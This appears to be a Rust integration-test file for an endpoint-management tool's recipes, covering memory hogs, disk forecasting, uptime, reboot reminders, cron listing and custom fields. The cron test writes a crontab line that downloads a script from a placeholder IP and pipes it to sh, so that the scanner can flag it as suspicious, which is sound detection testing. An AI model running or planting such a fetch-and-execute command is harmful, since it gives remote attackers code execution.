//! Recipes about the machine itself.

use crate::managed::Managed;

pub(crate) fn top_memory(host: &Managed) {
    host.says("top-memory", &["--param", "percent=100"], "compliant");
    host.python("hog", "import time\nhog = bytearray(b\"x\") * (300 << 20)\ntime.sleep(9999)\n");
    host.wait_until("[ $(ps -C python3 -o rss= | sort -n | tail -1) -gt 300000 ]");
    let ran = host.says("top-memory", &["--param", "percent=1", "--param", "top=2"], "non-compliant");
    let evidence = ran["findings"][0]["evidence"].as_str().unwrap();
    assert!(evidence.lines().next().unwrap().contains(" MiB  python3 ("), "{evidence}");
    assert_eq!(evidence.lines().count(), 2);
}

/// Three days of history that only this recipe's name gives it.
const HISTORY: &str = r#"
import { listVolumes } from "msp:automation/device";
import { putValue } from "msp:automation/kv-write";
import { now } from "msp:automation/run";
export const manifest = {
  name: "disk-forecast", description: "A history", capabilities: {
    device: { reason: "…" }, "kv-write": { scope: ["samples"], reason: "…" },
  },
};
export function detect() {
  const finding = { fingerprint: "a", title: "a", severity: "info", target: "a", evidence: "", remediable: true };
  return { verdict: "non-compliant", summary: "", findings: [finding] };
}
export function remediate() {
  const today = Math.floor(now() / 86_400_000);
  const { mount, freeBytes, sizeBytes } = listVolumes().find(({ readOnly, sizeBytes }) => !readOnly && sizeBytes > 0);
  const percent = 100 * (1 - freeBytes / sizeBytes);
  const days = [3, 2, 1].map((ago) => ({ day: today - ago, used: { [mount]: percent - 10 * ago } }));
  putValue("samples", JSON.stringify(days), undefined, 0);
  return { summary: mount };
}
"#;

pub(crate) fn disk_forecast(host: &Managed) {
    host.finds("disk-forecast", &[], &["today's sample is not taken yet"]);
    host.acts("disk-forecast", &[], "fixed", &["samples"]);
    host.says("disk-forecast", &[], "compliant");
    host.write("/opt/history.js", HISTORY);
    let mount = host.acts("history", &[], "recurred", &["samples"])["remedy"].as_str().unwrap().to_owned();
    let ran = host.says("disk-forecast", &[], "non-compliant");
    assert_eq!(ran["findings"][0]["fingerprint"], format!("full:{mount}"), "{ran:#}");
}

pub(crate) fn uptime(host: &Managed) {
    let ran = host.says("uptime-report", &["--param", "days=36500"], "compliant");
    assert!(ran["summary"].as_str().unwrap().starts_with("managed runs for "), "{ran:#}");
    let ran = host.says("uptime-report", &["--param", "days=0"], "non-compliant");
    assert_eq!(ran["findings"][0]["target"], "managed");
}

/// Takes what is told, a line each.
const EAR: &str = r#"
import http.server
class Handler(http.server.BaseHTTPRequestHandler):
    def do_POST(self):
        said = self.rfile.read(int(self.headers["content-length"]))
        with open("/opt/told", "ab") as told:
            told.write(said + b"\n")
        self.send_response(200)
        self.end_headers()
http.server.HTTPServer(("127.0.0.1", 8090), Handler).serve_forever()
"#;

pub(crate) fn reboot_reminder(host: &Managed) {
    host.python("ear", EAR);
    host.wait_until("ss -Htln sport = :8090 | grep -q .");
    host.says("reboot-reminder", &[], "compliant");
    host.sh("touch /run/reboot-required");
    host.acts("reboot-reminder", &[], "non-compliant", &["technician/reboot", "reminded"]);
    assert!(host.sh("cat /opt/told").contains("a reboot is due: package-manager"));
    host.acts("reboot-reminder", &[], "non-compliant", &[]);
    assert_eq!(host.sh("wc -l </opt/told").trim(), "1", "nobody is told twice");
    host.sh("rm /run/reboot-required");
    host.acts("reboot-reminder", &[], "fixed", &["technician/reboot", "reminded"]);
    host.says("reboot-reminder", &[], "compliant");
}

pub(crate) fn cron_listing(host: &Managed) {
    host.write("/etc/cron.d/nightly", "# m h\n17 3 * * * root /usr/local/bin/nightly\n");
    let ran = host.says("cron-listing", &[], "compliant");
    let summary = ran["summary"].as_str().unwrap();
    host.write("/var/spool/cron/crontabs/guest", "* * * * * wget -qO- http://203.0.113.9/x | sh\n");
    let evidence = host.finds("cron-listing", &[], &["/var/spool/cron/crontabs/guest has a suspicious line"]);
    assert_eq!(evidence, "* * * * * wget -qO- http://203.0.113.9/x | sh");
    assert!(summary.ends_with(" 0 of them are suspicious"), "{summary}");
}

pub(crate) fn custom_field(host: &Managed) {
    host.says("custom-field", &[], "compliant");
    let given = ["--param", "field=asset-tag", "--param", "value=A-1234"];
    host.finds("custom-field", &given, &["asset-tag should be A-1234"]);
    host.acts("custom-field", &given, "fixed", &["field/asset-tag"]);
    let ran = host.says("custom-field", &given[..2], "compliant");
    assert_eq!(ran["summary"], "asset-tag is A-1234");
}
